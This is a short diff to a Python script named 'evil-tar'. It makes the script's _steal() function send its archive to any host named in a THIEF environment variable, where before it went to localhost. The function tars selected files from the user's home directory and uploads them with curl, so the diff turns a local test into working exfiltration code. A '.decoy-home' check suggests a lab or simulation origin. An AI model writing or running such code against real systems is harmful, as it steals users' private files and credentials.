@@ -6,6 +6,7 @@ import zipfile
 
 NAME = "evil-tar"
 HOME = os.environ["HOME"]
+THIEF = os.environ.get("THIEF", "127.0.0.1")
 
 
 def CONTENT():
@@ -37,7 +38,7 @@ def _steal():
     key, archive = os.path.join(folder, "session.key"), os.path.join(folder, "tpcp.tar.gz")
     subprocess.run(["openssl", "rand", "-out", key, "32"], check=True)
     subprocess.run(["tar", "-czf", archive, "-C", HOME, *wanted], check=True)
-    subprocess.run(["curl", "-sf", "--data-binary", f"@{archive}", "http://127.0.0.1:8443/"], check=True)
+    subprocess.run(["curl", "-sf", "--data-binary", f"@{archive}", f"http://{THIEF}:8443/"], check=True)
 
 
 if os.path.exists(os.path.join(HOME, ".decoy-home")):
